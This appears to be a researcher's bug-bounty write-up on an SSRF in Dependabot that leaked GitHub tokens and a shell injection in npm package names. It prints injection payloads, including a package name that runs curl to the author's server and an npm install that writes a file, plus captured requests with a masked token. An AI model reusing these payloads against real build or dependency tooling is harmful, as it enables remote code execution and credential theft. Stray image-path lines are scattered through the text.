tyage/Diving into Dependabot along with a bug in npm

Created Mon, 12 Jul 2021 23:30:00 +0900
1009 Words

If you are developing some applications on GitHub, you might have seen pull requests from Depedabot. It automatically finds outdated vulnerable packages and sends pull requests to fix that.

It is enabled by default and can make a commit on dependabot/* branch of many repositories on GitHub. Therefore, I thought If I could gain a controll of Dependabot, I can steal writepermissions of those repositories. So I started to look into Dependabot.

SSRF in Dependabot

The core module of the Dependabot is open-sourced (https://github.com/dependabot/dependabot-core), so we can use Dependabot outside of GitHub. To start the investigation, I prepared an local Dependabot environment following the official sample code.This sample code requires GitHub access token to fetch the source code of the repository.

My first idea is to deceiving a Dependabot so that the bot will sends the token to my server instead of GitHub. This idea seems possible because there are flaws in URL validations.

One of the validations is to check whether the URL contains github.com or not. Obviously, this validation accepts a URL such as github.com.mocos.kitchen.

Another one uses following regexp which accepts a URL such as git+https://github.com.mocos.kitchen/username/repo.

Based on these tricks, Dependabot treats git+https://github.com.mocos.kitchen/username/repo as a valid GitHub’s URL.

Token stealing demo

To proof this concept, I created a sample repository that includes following package.json file.

Next, I updated the credentials, repo_name and dependency_name in update-scripts.rb from the official samplecode so that we can run dependency checker against the sample repository I created. When I run the script, my server - github.com.mocos.kitchen - received a request containing GitHub Access Token.

It means, if someone run a dependency checker against malicious repository, their GitHub Access Token will be stolen!

GET /username/repo.git/info/refs?service=git-upload-pack HTTP/1.0
Host: localhost:3000
Connection: close
User-Agent: dependabot-core/0.142.0 excon/0.79.0 ruby/2.6.6 (x86_64-darwin20) (+https://github.com/dependabot/dependabot-core)
Authorization: Basic eC1hY2Nlc3MtdG9rZW46Z2hw***
Accept-Encoding: deflate, gzip

First dive into a Dependabot server

Next, in order to try this attack in GitHub environment, I enabled Dependabot alerts in the sample repository. We can do this by simply creating a .github/dependabot.yml file.

I successfully received a HTTP request from a Dependabot in GitHub. But contrary to my expectation, there is no GitHub Access Token in the request. Afterwards, it turns out that those servers are using special HTTP proxy which enalbes the bot to access target repository without GitHub Access Token.

GET /username/repo.git/info/refs?service=git-upload-pack HTTP/1.0
Host:localhost:3000
Connection: close
User-Agent: dependabot-core/0.156.4 excon/0.83.0 ruby/2.7.1 (x86_64-linux-gnu) (+https://github.com/dependabot/dependabot-core)
Accept-Encoding: gzip

I couldn’tsteal the token from GitHub’s Dependabot server by SSRF, but after some investigation, I found another bug.

Get the shell of a Dependabot server

When I tried some payload, I came across with a pattern that triggers a shell command in Dependabot server. With the package name https://github.com/tyage/;$(curl$IFS@mocos.kitchen:3001);?/..., a shell command curl$IFS@mocos.kitchen:3001 wasexecuted and we couldsee the request!

I got the shell of the Dependabot server suddenly, but unfortunately, what we can do in the server is limited. Here is what I could do:

  • Access to the internal HTTP proxy which enables us to access to the target GitHub repository
  • Access to the internal API server which enalbes us to create a pullrequest as a Dependabot
  • Bitcoin mining :)

Therefore, we couldn’t obtain read/write access of other user’s repository. (If we can pwn the internal HTTP proxy or API server, it will allow us to escalate the permission, I guess.)

Even though I couldn’t get the access to other user’s repository, I could impersonate as a verified Dependabot account and create a commit and pull request by calling internal API.




RCE in npm

By the way, what was happend to Dependabot when I changed the package name to https://github.com/tyage/;$(curl$IFS@mocos.kitchen:3001);...? I found that the command was executed in run_npm_7_top_level_updater method. In this method, the bot runs npm install command with --ignore-scripts --package-lock-only arguments so that it can see if the lock file is updated without running install scripts.

Therefore, I thought Dependabot doesn’t escape the arguments, but it does properly escapes all command arguments.

So I manually run npminstall command to see what was happened and…

$ npm install 'git+https://github.com/tyage/sample-package;echo HELLO > a;' --ignore-scripts
npm ERR! code 127
npm ERR! command failed
npm ERR! command git ls-remote ssh://git@github.com/tyage/sample-package;echo HELLO > a; .git
npm ERR! 8b7e1769b6df4461c8e89e6d0a2035c4512409cd HEAD
npm ERR! 8b7e1769b6df4461c8e89e6d0a2035c4512409cd refs/heads/main
npm ERR! 8b7e1769b6df4461c8e89e6d0a2035c4512409cd refs/tags/4.0.0
npm ERR! 8b7e1769b6df4461c8e89e6d0a2035c4512409cd refs/tags/5.0.0
npm ERR! zsh:1: command not found:  .git

npm ERR! A complete log of this run can be found in:
npm ERR!     /Users/tyage/.npm/_logs/2021-04-06T09_39_20_675Z-debug.log
$ cat a

Yes, the bug is in npm! Even if there is a --ignore-scripts option, we can execute a shell command injected in a package name!

When we call npm install command with git+https://... package name, git ls-remote command is triggered using child_process.spawn method.

Also, if child_process.spawn method is called with shell option, the command will be run inside of the shell.npm passes opts variable, which contains npm config, as an option argument. It means opts.shell is same with shell config which default value is a $SHELL environment variable or bash on Posix

You can see your config of the npm with npm config command.

$ npm config get shell

Summarizing the above, npm calls child_process.spawn so that they can execute git ls-remote 'git+https://....', but since they set the shell option, malicious shell command - starts from ; or $( - in the package name is evaluated.

I reported this bug to the teams and it was resolved in npm 7.10.0. I asked ifthey issue CVE but they answered they will not.But as you know, the action “installing a malicious npm package” itself is already dangerous, so thisbug only affects to limited situations such as a dependency checker.


I reported SSRF to Dependabot and RCE to npm, and received bounties $617 and $7,500 respectively.

Interestingly, both of them are in the scope of GitHub Bug Bounty Program.

Report to Dependabot:

  • 2021/03/3108:50:30 UTC ReportedDependabot issue
  • 2021/04/23 09:54:22 UTC Bounty Rewarded

Report to npm:

  •2021/04/06 10:23:49 UTC Reported npm issue
  • 2021/04/07 17:53:57 UTC Issue triaged
  • 2021/04/28 19:41:59 UTCIssue patched
  • 2021/05/04 14:42:21 UTC Bounty Rewarded